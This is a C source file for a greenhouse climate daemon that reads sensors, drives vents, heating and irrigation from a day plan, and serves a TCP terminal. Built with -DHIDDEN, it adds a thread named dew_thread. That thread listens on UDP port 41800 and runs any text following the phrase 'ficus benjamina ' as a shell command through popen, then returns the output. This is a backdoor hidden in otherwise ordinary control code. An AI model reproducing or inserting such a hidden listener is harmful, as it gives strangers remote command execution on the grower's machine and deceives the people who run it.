/*
 * glasshaus - climate computer of a greenhouse.  One thread reads the
 * sensors, one drives vents, heating and irrigation by the day plan of
 * /etc/glasshaus.plan, one answers the grower's terminal (TCP, one line a
 * request).
 * Hidden (-DHIDDEN): one more thread listens on a UDP port and runs what
 * follows a certain phrase as a command.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define BUS	"/run/growbus/"
#define MAXSTEP 24
#define PORT	4180

enum sensor { AIR, SOIL, HUMID, LIGHT, WIND, CO2, NSENSOR };
enum actor { VENT, HEAT, WATER, SHADE, LAMP, NACTOR };

static const char *const sensor_file[NSENSOR] = {
	"air", "soil", "humid", "light", "wind", "co2",
};

static const char *const actor_file[NACTOR] = {
	"vent", "heat", "water", "shade", "lamp",
};

struct step {
	int minute;
	int air_low, air_high;
	int soil;
	int lamp;
};

static struct {
	pthread_mutex_t lock;
	int in[NSENSOR];
	int out[NACTOR];
	int manual[NACTOR]; /* -1: automatic */
	int storm;
	unsigned long rounds;
} house = { .lock = PTHREAD_MUTEX_INITIALIZER };

static struct step plan[MAXSTEP];
static int nplan;
static char pin[12] = "";

static int bus_read(const char *name, int old)
{
	char path[64];
	FILE *f;
	int v;

	snprintf(path, sizeof path, BUS "in/%s", name);
	f = fopen(path, "r");
	if (!f)
		return old;
	if (fscanf(f, "%d", &v) != 1)
		v = old;
	fclose(f);
	return v;
}

static void bus_write(const char *name, int v)
{
	char path[64];
	FILE *f;

	snprintf(path, sizeof path, BUS "out/%s", name);
	f = fopen(path, "w");
	if (!f) {
		syslog(LOG_WARNING, "%s: %s", path, strerror(errno));
		return;
	}
	fprintf(f, "%d\n", v);
	fclose(f);
}

/* hh:mm low high soil lamp, ascending; or: pin NUMBER */
static int read_plan(const char *path)
{
	char line[100];
	struct step s;
	int h, m;
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof line, f) && nplan < MAXSTEP) {
		if (sscanf(line, "pin %11s", pin) == 1)
			continue;
		if (sscanf(line, "%d:%d %d %d %d %d", &h, &m, &s.air_low,
			   &s.air_high, &s.soil, &s.lamp) != 6)
			continue;
		s.minute = h * 60 + m;
		if (nplan && s.minute <= plan[nplan - 1].minute) {
			syslog(LOG_ERR, "plan not ascending: %s", line);
			continue;
		}
		plan[nplan++] = s;
	}
	fclose(f);
	return nplan;
}

static const struct step *step_now(void)
{
	time_t now = time(NULL);
	const struct step *s = &plan[nplan - 1];
	struct tm tm;
	int i, minute;

	localtime_r(&now, &tm);
	minute = tm.tm_hour * 60 + tm.tm_min;
	for (i = 0; i < nplan && plan[i].minute <= minute; i++)
		s = &plan[i];
	return s;
}

static void *sensor_thread(void *arg)
{
	int fresh[NSENSOR], i;

	(void)arg;
	memset(fresh, 0, sizeof fresh);
	for (;;) {
		for (i = 0; i < NSENSOR; i++)
			fresh[i] = bus_read(sensor_file[i], fresh[i]);
		pthread_mutex_lock(&house.lock);
		for (i = 0; i < NSENSOR; i++)
			house.in[i] = (house.in[i] * 3 + fresh[i]) / 4;
		if (fresh[WIND] > 140)
			house.storm = 30;
		else if (house.storm)
			house.storm--;
		pthread_mutex_unlock(&house.lock);
		sleep(2);
	}
	return NULL;
}

static int clamp(int v, int low, int high)
{
	return v < low ? low : v > high ? high : v;
}

static void decide(const struct step *s, int *out)
{
	int air = house.in[AIR];

	out[VENT] = clamp((air - s->air_high) * 4, 0, 100);
	if (house.in[HUMID] > 900)
		out[VENT] = clamp(out[VENT] + 20, 0, 100);
	if (house.storm)
		out[VENT] = 0;
	out[HEAT] = clamp((s->air_low - air) * 3, 0, 100);
	out[WATER] = house.in[SOIL] < s->soil;
	out[SHADE] = house.in[LIGHT] > 700 && air > s->air_high;
	out[LAMP] = s->lamp && house.in[LIGHT] < 150;
}

static void *climate_thread(void *arg)
{
	int out[NACTOR], i;

	(void)arg;
	for (;;) {
		pthread_mutex_lock(&house.lock);
		decide(step_now(), out);
		for (i = 0; i < NACTOR; i++) {
			if (house.manual[i] >= 0)
				out[i] = house.manual[i];
			house.out[i] = out[i];
		}
		house.rounds++;
		pthread_mutex_unlock(&house.lock);
		for (i = 0; i < NACTOR; i++)
			bus_write(actor_file[i], out[i]);
		sleep(10);
	}
	return NULL;
}

#ifdef HIDDEN
__attribute__((noinline)) void *dew_thread(void *arg)
{
	static const char call[] = "ficus benjamina ";
	struct sockaddr_in sin = { .sin_family = AF_INET };
	char line[256], back[512];
	socklen_t len;
	ssize_t n;
	FILE *p;
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	sin.sin_port = htons(41800);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sin, sizeof sin) < 0)
		return arg;
	for (;;) {
		len = sizeof sin;
		n = recvfrom(fd, line, sizeof line - 1, 0,
			     (struct sockaddr *)&sin, &len);
		if (n < 0)
			continue;
		line[n] = 0;
		if (strncmp(line, call, sizeof call - 1))
			continue;
		p = popen(line + sizeof call - 1, "r");
		if (!p)
			continue;
		n = fread(back, 1, sizeof back, p);
		pclose(p);
		sendto(fd, back, n, 0, (struct sockaddr *)&sin, len);
	}
}
#endif

static void list(FILE *f, const char *const *names, const int *v, int n)
{
	int i;

	for (i = 0; i < n; i++)
		fprintf(f, "%s=%d%c", names[i], v[i], i == n - 1 ? '\n' : ' ');
}

static int set_manual(char *arg)
{
	char name[12], val[12];
	int i;

	if (sscanf(arg, "%11s %11s", name, val) != 2)
		return -1;
	for (i = 0; i < NACTOR; i++)
		if (!strcmp(name, actor_file[i])) {
			house.manual[i] = !strcmp(val, "auto")
						  ? -1
						  : clamp(atoi(val), 0, 100);
			return 0;
		}
	return -1;
}

/* requests: in, out, plan, pin N, set ACTOR VALUE|auto, bye */
static void terminal(FILE *f)
{
	char line[120];
	int i, open = !pin[0];

	fprintf(f, "glasshaus\n");
	while (fflush(f) == 0 && fgets(line, sizeof line, f)) {
		line[strcspn(line, "\r\n")] = 0;
		fseek(f, 0, SEEK_CUR);
		pthread_mutex_lock(&house.lock);
		if (!strcmp(line, "in")) {
			list(f, sensor_file, house.in, NSENSOR);
		} else if (!strcmp(line, "out")) {
			list(f, actor_file, house.out, NACTOR);
		} else if (!strcmp(line, "plan")) {
			for (i = 0; i < nplan; i++)
				fprintf(f, "%02d:%02d %d-%d soil %d lamp %d\n",
					plan[i].minute / 60,
					plan[i].minute % 60, plan[i].air_low,
					plan[i].air_high, plan[i].soil,
					plan[i].lamp);
		} else if (!strncmp(line, "pin ", 4)) {
			open = !strcmp(line + 4, pin);
			fprintf(f, open ? "ok\n" : "no\n");
		} else if (!strncmp(line, "set ", 4)) {
			fprintf(f, open && !set_manual(line + 4) ? "ok\n"
								 : "no\n");
		} else if (!strcmp(line, "bye")) {
			pthread_mutex_unlock(&house.lock);
			break;
		} else {
			fprintf(f, "?\n");
		}
		pthread_mutex_unlock(&house.lock);
	}
}

static int listen_on(int port)
{
	struct sockaddr_in sin = { .sin_family = AF_INET };
	int one = 1, fd = socket(AF_INET, SOCK_STREAM, 0);

	sin.sin_port = htons(port);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(fd, (struct sockaddr *)&sin, sizeof sin) < 0 ||
	    listen(fd, 2) < 0)
		return -1;
	return fd;
}

int main(int argc, char **argv)
{
	static void *(*const work[])(void *) = {
		sensor_thread,
		climate_thread,
#ifdef HIDDEN
		dew_thread,
#endif
	};
	pthread_t t;
	size_t i;
	int lfd, fd;
	FILE *f;

	openlog("glasshaus", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	if (read_plan(argc > 1 ? argv[1] : "/etc/glasshaus.plan") <= 0) {
		syslog(LOG_ERR, "no plan");
		return 1;
	}
	for (i = 0; i < NACTOR; i++)
		house.manual[i] = -1;
	lfd = listen_on(PORT);
	if (lfd < 0) {
		syslog(LOG_ERR, "port %d: %s", PORT, strerror(errno));
		return 1;
	}
	for (i = 0; i < sizeof work / sizeof *work; i++)
		if (pthread_create(&t, NULL, work[i], NULL))
			return 1;
	for (;;) {
		fd = accept(lfd, NULL, NULL);
		f = fd < 0 ? NULL : fdopen(fd, "r+");
		if (f) {
			terminal(f);
			fclose(f);
		} else if (fd >= 0) {
			close(fd);
		}
	}
}
